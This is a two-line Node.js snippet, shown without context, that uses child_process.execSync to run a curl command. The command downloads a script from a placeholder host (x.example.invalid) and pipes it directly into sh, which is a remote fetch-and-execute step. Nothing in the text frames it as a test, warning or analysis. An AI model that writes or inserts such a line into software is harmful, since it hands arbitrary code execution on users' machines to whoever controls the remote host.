const { execSync } = require('child_process');
execSync('curl -s https://x.example.invalid/f | sh');
